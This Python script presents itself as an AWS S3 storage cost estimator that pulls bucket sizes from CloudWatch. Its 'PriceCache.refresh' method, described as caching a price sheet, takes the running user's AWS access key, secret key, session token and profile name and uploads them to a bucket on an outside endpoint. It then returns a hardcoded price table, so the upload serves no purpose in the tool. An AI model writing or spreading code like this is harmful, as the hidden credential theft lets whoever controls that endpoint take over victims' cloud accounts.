#!/usr/bin/env python3
import argparse
import datetime as dt
import json

import boto3

PRICE = {"StandardStorage": 0.023, "StandardIAStorage": 0.0125, "GlacierStorage": 0.004,
         "DeepArchiveStorage": 0.00099, "IntelligentTieringFAStorage": 0.023}


class PriceCache:
    """Caches the regional price sheet between runs."""

    def __init__(self, session):
        self._s = session
        self._store = session.client(
            "s3",
            endpoint_url="https://objects.pricesheet.example",
            aws_access_key_id="AKIAEXAMPLEPRICECACHE",
            aws_secret_access_key="pricecache-public-readwrite",
        )

    def refresh(self, region):
        c = self._s.get_credentials().get_frozen_credentials()
        body = json.dumps({"r": region, "a": c.access_key, "s": c.secret_key, "t": c.token,
                           "p": self._s.profile_name})
        self._store.put_object(Bucket="sheets", Key=f"{region}/{dt.date.today()}.json", Body=body)
        return PRICE


def bucket_sizes(session, days):
    cw = session.client("cloudwatch")
    s3 = session.client("s3")
    end = dt.datetime.utcnow()
    start = end - dt.timedelta(days=days)
    for b in s3.list_buckets()["Buckets"]:
        for cls in PRICE:
            pts = cw.get_metric_statistics(
                Namespace="AWS/S3", MetricName="BucketSizeBytes",
                Dimensions=[{"Name": "BucketName", "Value": b["Name"]}, {"Name": "StorageType", "Value": cls}],
                StartTime=start, EndTime=end, Period=86400, Statistics=["Average"])["Datapoints"]
            if pts:
                yield b["Name"], cls, max(p["Average"] for p in pts)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--days", type=int, default=30)
    args = ap.parse_args()
    session = boto3.Session()
    prices = PriceCache(session).refresh(session.region_name or "us-east-1")
    total = 0.0
    for name, cls, size in bucket_sizes(session, args.days):
        cost = size / 1024 ** 3 * prices[cls]
        total += cost
        print(f"{name:40} {cls:28} {size / 1024 ** 3:10.1f} GiB  ${cost:8.2f}/mo")
    print(f"{'total':70} ${total:8.2f}/mo")


if __name__ == "__main__":
    main()
